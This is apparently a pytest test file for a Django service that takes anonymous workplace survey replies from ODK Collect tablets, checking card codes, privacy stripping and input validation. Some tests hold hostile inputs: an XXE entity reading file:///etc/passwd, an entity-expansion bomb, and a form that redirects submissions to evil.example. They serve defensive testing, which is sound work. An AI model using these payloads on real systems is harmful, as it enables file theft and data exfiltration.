"""ODK Collect gets a wave's form and sends replies: each by a card, once, without a trace."""

import base64
import json
import subprocess
import uuid
import zlib
from collections.abc import Callable, Mapping
from datetime import date, timedelta
from pathlib import Path
from shutil import which
from typing import Any

import pytest
import pyxform
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.http import HttpResponse
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone, translation
from lxml import etree

from mutua import instruments
from mutua.members import mailboxes
from mutua.members.models import Mailbox
from mutua.voice import actions, editions, pepper, queries, rules, tablets, xforms
from mutua.voice.models import Card, Channel, Interview, Reply, Wave, Workplace

from .conftest import AT

RESPONSE = "{http://openrosa.org/http/response}"
LIST = "{http://openrosa.org/xforms/xformsList}"
XF = "{http://www.w3.org/2002/xforms}"
Send = Callable[..., HttpResponse]


@pytest.fixture
def open_wave(workplace: Workplace) -> Wave:
    """A wave under way today that tablets may answer."""
    today = timezone.now().date()
    return actions.open_wave(
        workplace=workplace, edition=actions.ship(name="workers", at=AT),
        opens=today - timedelta(days=1), closes=today + timedelta(days=9), cards=30,
        places=["Canteen", "Gate"], language="hi", tablets=True, by=None, at=AT,
    )  # fmt: skip


def address(wave: Wave, path: str = "submission") -> str:
    """Return an address of a wave's tablets."""
    return f"/odk/{tablets.token(wave)}/{path}"


def filled(
    wave: Wave, card: str, answers: Mapping[str, str] | None = None, *, language: str = "hi",
    instance: str = "", version: str = "",
) -> bytes:  # fmt: skip
    """Fill the form in as a tablet does: the instance of the form, with what was answered."""
    form = etree.fromstring(tablets.form(wave).encode())
    data = form.find(f".//{XF}instance")[0]
    said = {
        "card": card, "language": language, "instanceID": instance or f"uuid:{uuid.uuid4()}",
    } | dict(usual(wave) if answers is None else answers)  # fmt: skip
    for one in data.iter(etree.Element):
        one.text = said.get(etree.QName(one).localname, one.text)
    data.set("version", version or str(data.get("version")))
    return etree.tostring(data)


def usual(wave: Wave) -> dict[str, str]:
    """Answer every question with its first option."""
    return {
        one.name: one.choices[0].name
        for one in editions.instrument(wave.edition) if one.choices
    }  # fmt: skip


def send(client: Client, wave: Wave, xml: bytes, **more: object) -> HttpResponse:
    """Send a reply as ODK Collect does."""
    file = SimpleUploadedFile("workers_2026-03-04.xml", xml, content_type="text/xml")
    return client.post(address(wave), {"xml_submission_file": file, **more})


def message(response: HttpResponse) -> str:
    """Return what the tablet shows."""
    return str(etree.fromstring(response.content).findtext(f"{RESPONSE}message"))


def code(wave: Wave, number: int) -> str:
    """Return the code of a card as it is printed."""
    return pepper.shown_code(pepper.card_code(wave.code, number))


def test_form_is_listed_with_its_version_and_hash_and_comes_as_it_was_listed(
    open_wave: Wave, client: Client
) -> None:
    response = client.get(address(open_wave, "formList"), headers={"X-OpenRosa-Version": "1.0"})
    assert response["X-OpenRosa-Version"] == "1.0"
    assert response["Content-Type"] == "text/xml; charset=utf-8"
    (one,) = etree.fromstring(response.content)
    told = {etree.QName(each).localname: each.text for each in one}
    assert [told["formID"], told["version"]] == ["workers", open_wave.edition.version]
    form = client.get(told["downloadUrl"].removeprefix("http://localhost:8000"))
    assert tablets.form_hash(form.content.decode()) == told["hash"]
    root = etree.fromstring(form.content).find(f".//{XF}instance")[0]
    assert (root.get("id"), root.get("version")) == ("workers", open_wave.edition.version)


def test_another_form_is_not_listed(open_wave: Wave, client: Client) -> None:
    assert len(etree.fromstring(client.get(address(open_wave, "formList?formID=x")).content)) == 0


def test_form_is_not_listed_when_the_wave_is_over(open_wave: Wave, client: Client) -> None:
    Wave.objects.update(closes=timezone.now().date() - timedelta(days=1))
    assert len(etree.fromstring(client.get(address(open_wave, "formList")).content)) == 0


@pytest.mark.parametrize("path", ["formList", "submission", "forms/0.xml"])
def test_forged_or_forbidden_address_is_none(open_wave: Wave, client: Client, path: str) -> None:
    right = address(open_wave, path)
    assert client.get(right.replace(tablets.token(open_wave), "x" * 60)).status_code == 404
    poster = pepper.token("poster", open_wave.code)
    assert client.get(f"/odk/{poster}/{path}").status_code == 404
    actions.let_tablets(wave=open_wave, allowed=False, by=None, at=AT)
    assert client.get(right).status_code == 404
    assert client.post(right).status_code == 404


def test_head_tells_where_to_send_and_how_much(open_wave: Wave, client: Client) -> None:
    response = client.head(address(open_wave))
    assert response.status_code == 204
    assert response["Location"] == f"http://localhost:8000{address(open_wave)}"
    assert int(response["X-OpenRosa-Accept-Content-Length"]) > 100_000


def test_reply_is_kept_by_its_card(open_wave: Wave, client: Client) -> None:
    response = send(client, open_wave, filled(open_wave, code(open_wave, 1), language="vi"))
    assert (response.status_code, response["X-OpenRosa-Version"]) == (201, "1.0")
    reply = Reply.objects.get()
    assert (reply.channel, reply.language, reply.place, reply.by_card, reply.on) == (
        "tablet", "vi", 1, True, timezone.now().date(),
    )  # fmt: skip
    assert (reply.answers["safe_place"], reply.answers["gender"]) == ("1", "woman")
    assert Card.objects.filter(used=True).count() == 1


def test_tablet_and_phone_store_the_same(open_wave: Wave, client: Client) -> None:
    send(client, open_wave, filled(open_wave, code(open_wave, 1)))
    interview = actions.begin(
        channel=Channel.WEB, key="k", card=queries.card_of(code(open_wave, 2)), at=timezone.now()
    )
    instrument, told = editions.instrument(open_wave.edition), usual(open_wave)
    while at := instruments.prompt(instrument, actions.interviews.state_of(interview)):
        interview = actions.take(
            interview=interview, question=at.question.name,
            given=told.get(at.question.name, "OK"), at=timezone.now(),
        )  # fmt: skip
    actions.finish(interview=interview, at=timezone.now())
    one, other = Reply.objects.values_list("answers", flat=True)
    assert {**one, "harassed": ""} == {**other, "harassed": ""}  # mixed with chance


def test_reply_sent_again_is_kept_once_and_never_changed(open_wave: Wave, client: Client) -> None:
    first = filled(open_wave, code(open_wave, 1), instance="uuid:1")
    changed = first.replace(b"<safe_place>1<", b"<safe_place>5<")
    assert first != changed
    answers = [send(client, open_wave, xml) for xml in (first, first, changed)]
    assert [one.status_code for one in answers] == [201, 201, 201]
    assert Reply.objects.get().answers["safe_place"] == "1"


def test_used_card_is_refused_kindly(open_wave: Wave, client: Client) -> None:
    send(client, open_wave, filled(open_wave, code(open_wave, 1)))
    second = send(client, open_wave, filled(open_wave, code(open_wave, 1), language="en"))
    assert second.status_code == 409
    assert "used already" in message(second)
    assert Reply.objects.count() == 1


def test_nobody_makes_up_replies_without_cards(open_wave: Wave, client: Client) -> None:
    other = pepper.card_code(uuid.uuid4(), 1)
    for typed in ("", "AAAA-AAAA-AAAA", other):
        response = send(client, open_wave, filled(open_wave, typed, language="en"))
        assert (response.status_code, "no card of this site" in message(response)) == (409, True)
    assert Reply.objects.count() == 0


def test_card_of_another_wave_answers_there_only(
    open_wave: Wave, elsewhere: Workplace, client: Client
) -> None:
    later = actions.open_wave(
        workplace=elsewhere, edition=open_wave.edition, opens=open_wave.opens,
        closes=open_wave.closes, cards=3, places=[], tablets=True, by=None, at=AT,
    )  # fmt: skip
    assert send(client, later, filled(later, code(open_wave, 1))).status_code == 409
    assert send(client, later, filled(later, code(later, 1))).status_code == 201


def test_card_that_a_phone_began_is_answered_by_the_tablet(open_wave: Wave, client: Client) -> None:
    actions.begin(
        channel=Channel.WEB, key="k", card=queries.card_of(code(open_wave, 1)), at=timezone.now()
    )
    assert send(client, open_wave, filled(open_wave, code(open_wave, 1))).status_code == 201
    assert Interview.objects.count() == 0


def test_answer_that_the_form_forbids_is_refused_with_its_question(
    open_wave: Wave, client: Client
) -> None:
    wrong = usual(open_wave) | {"safe_gear": "canary-9"}
    response = send(client, open_wave, filled(open_wave, code(open_wave, 1), wrong, language="en"))
    assert response.status_code == 400
    assert "I have the protective equipment" in message(response)
    assert "canary" not in response.content.decode()
    assert (Reply.objects.count(), Card.objects.filter(used=True).count()) == (0, 0)


def test_what_the_form_would_not_have_asked_is_left_out(open_wave: Wave, client: Client) -> None:
    xml = filled(open_wave, code(open_wave, 1)).replace(
        b"</data>", b"<supervisor>canary</supervisor></data>"
    )
    assert send(client, open_wave, xml).status_code == 201
    assert "canary" not in json.dumps(Reply.objects.get().answers)


def test_nothing_of_the_tablet_or_the_time_is_kept(open_wave: Wave, client: Client) -> None:
    xml = filled(open_wave, code(open_wave, 1)).replace(
        b"<instanceID>",
        b"<deviceID>canary-1</deviceID><timeStart>canary-2</timeStart>"
        b"<userID>canary-3</userID><instanceID>uuid:canary-4",
    ).replace(b"</data>", b"<start>canary-5</start><audit>canary-6</audit></data>")  # fmt: skip
    audit = SimpleUploadedFile("audit.csv", b"event,node,start\ncanary-7,/data,1", "text/csv")
    assert send(client, open_wave, xml, **{"audit.csv": audit}).status_code == 201
    assert "canary" not in "\n".join(connection.connection.iterdump())
    fields = {one.name for one in Reply._meta.fields}
    assert fields == {
        "id", "instance", "wave", "on", "channel", "language", "place", "by_card", "fast", "answers"
    }  # fmt: skip


def test_what_was_answered_by_the_last_day_may_come_until_the_closing(
    open_wave: Wave, client: Client
) -> None:
    late = filled(open_wave, code(open_wave, 1))
    last = timezone.now().date() - timedelta(days=1)
    Wave.objects.update(closes=last)
    assert send(client, open_wave, late).status_code == 201
    assert Reply.objects.get().on == last
    Wave.objects.update(closed_at=timezone.now())
    response = send(client, open_wave, filled(open_wave, code(open_wave, 2), language="en"))
    assert (response.status_code, "closed" in message(response)) == (409, True)


def test_reply_that_meets_the_closing_is_told_or_refused_never_kept_untold(
    open_wave: Wave, client: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It came in before the wave was closed, and is to be kept after it."""
    taken = actions.tablets._by_card

    def closed_meanwhile(*given: Any) -> bool:
        actions.close(wave=open_wave, by=None, at=timezone.now())
        return taken(*given)

    monkeypatch.setattr(actions.tablets, "_by_card", closed_meanwhile)
    response = send(client, open_wave, filled(open_wave, code(open_wave, 1)))
    assert response.status_code == 409
    with translation.override("hi"):
        open_wave.refresh_from_db()
        assert rules.why_not_send(open_wave, timezone.now()) in response.content.decode()
    assert Reply.objects.count() == 0
    assert not Card.objects.filter(used=True).exists()


def test_wave_that_is_not_open_yet_takes_nothing(open_wave: Wave, client: Client) -> None:
    Wave.objects.update(opens=date(2999, 1, 1), closes=date(2999, 2, 1))
    assert send(client, open_wave, filled(open_wave, code(open_wave, 1))).status_code == 409


def test_another_version_of_the_form_is_refused(open_wave: Wave, client: Client) -> None:
    xml = filled(open_wave, code(open_wave, 1), version="0" * 64)
    assert send(client, open_wave, xml).status_code == 409
    assert Reply.objects.count() == 0


@pytest.mark.parametrize(
    "xml",
    [
        b"",
        b"no xml",
        b"<data/>",
        b"<data><meta><instanceID></instanceID></meta></data>",
        b"<data><meta><instanceID>" + b"x" * 201 + b"</instanceID></meta></data>",
        b"<data><a/><a/><meta><instanceID>uuid:1</instanceID></meta></data>",
        b'<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        b"<data><meta><instanceID>&e;</instanceID></meta></data>",
        b'<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>'
        b"<data><meta><instanceID>&b;</instanceID></meta></data>",
        b"<a>" * 5_000 + b"</a>" * 5_000,
    ],
)
def test_what_is_no_reply_is_refused(open_wave: Wave, client: Client, xml: bytes) -> None:
    response = send(client, open_wave, xml)
    assert response.status_code == 400
    assert "passwd" not in response.content.decode()
    assert Reply.objects.count() == 0


def test_too_much_is_refused(open_wave: Wave, client: Client) -> None:
    for length in (300_000, 3_000_000):
        assert send(client, open_wave, b"<data>" + b" " * length).status_code == 413


def test_taking_a_reply_in_asks_the_database_six_times(open_wave: Wave, client: Client) -> None:
    send(client, open_wave, filled(open_wave, code(open_wave, 1)))  # the form is read meanwhile
    with CaptureQueriesContext(connection) as asked:
        send(client, open_wave, filled(open_wave, code(open_wave, 2)))
    told = [one["sql"] for one in asked if "SAVEPOINT" not in one["sql"]]
    assert len(told) <= 6, told
    assert not any('"source"' in sql for sql in told)


def test_settings_for_collect_can_be_read_back(open_wave: Wave) -> None:
    told = tablets.collect_settings(open_wave)
    packed = base64.b64encode(zlib.compress(json.dumps(told).encode()))
    assert json.loads(zlib.decompress(base64.b64decode(packed))) == told
    assert told["general"]["server_url"] == f"http://localhost:8000{address(open_wave, '')[:-1]}"
    assert told["general"]["delete_send"] is True
    assert tablets.settings_qr(open_wave).startswith("<svg")


def test_page_of_the_desk_lets_tablets_answer(wave: Wave, client: Client) -> None:
    token = mailboxes.token(wave.workplace.mailbox)
    page = f"/desk/{token}/voice/waves/{wave.code}/tablet/"
    Wave.objects.filter(pk=wave.pk).update(closes=timezone.now().date() + timedelta(5))
    assert page in client.get(page.removesuffix("tablet/")).text  # the wave's page leads there
    assert "<svg" not in client.get(page).content.decode().partition("cannot answer")[2][:400]
    client.post(page, {"allowed": "yes"})
    wave.refresh_from_db()
    assert wave.tablets is True
    assert tablets.token(wave) in client.get(page).content.decode()
    client.post(page, {"allowed": "no"})
    wave.refresh_from_db()
    assert wave.tablets is False


def test_page_of_anothers_wave_is_not_there(wave: Wave, client: Client) -> None:
    other = Mailbox.objects.create(email="other@supplier.example", since=AT)
    page = f"/desk/{mailboxes.token(other)}/voice/waves/{wave.code}/tablet/"
    assert client.get(page).status_code == 404
    assert client.post(page, {"allowed": "yes"}).status_code == 404


HOSTILE = """
| survey | | | | | | | |
| | type | name | label | bind::jr:preload | bind::jr:preloadParams | media::audio | calculation |
| | text | who | Say something | property | phonenumber | said.mp3 | |
| | integer | set_one | How many? | | | | |
| | audit | audit | | | | | |
| settings | | | | |
| | form_title | form_id | submission_url | instance_name |
| | Hostile | hostile | https://evil.example/take | ${who} |
"""


def test_form_that_was_handed_in_cannot_send_elsewhere_nor_add_who_answers(db: None) -> None:
    instrument, _notes = instruments.read(HOSTILE)
    assert "evil" in instrument.xform
    form = xforms.for_tablet(
        instrument, address="https://ours.example/submission", language="en",
        words=tablets.first_words,
    )  # fmt: skip
    for trace in ("evil", 'preload="property', "phonenumber", "audit", "said.mp3", "instanceName"):
        assert trace not in form
    assert "<set_one/>" in form
    assert "The code on the card" in form


@pytest.mark.skipif(which("java") is None, reason="ODK Validate needs Java")
@pytest.mark.parametrize("name", ["workers", "pulse"])
def test_odk_validate_accepts_the_form_of_a_tablet(
    name: str, workplace: Workplace, tmp_path: Path
) -> None:
    wave = actions.open_wave(
        workplace=workplace, edition=actions.ship(name=name, at=AT), opens=AT.date(),
        closes=AT.date(), cards=1, places=[], tablets=True, by=None, at=AT,
    )  # fmt: skip
    file = tmp_path / "form.xml"
    file.write_text(tablets.form(wave))
    jar = Path(pyxform.__file__).parent / "validators/odk_validate/bin/ODK_Validate.jar"
    done = subprocess.run(
        [str(which("java")), "-jar", str(jar), str(file)], capture_output=True, text=True
    )
    assert "Xform is valid" in done.stdout, done.stdout + done.stderr
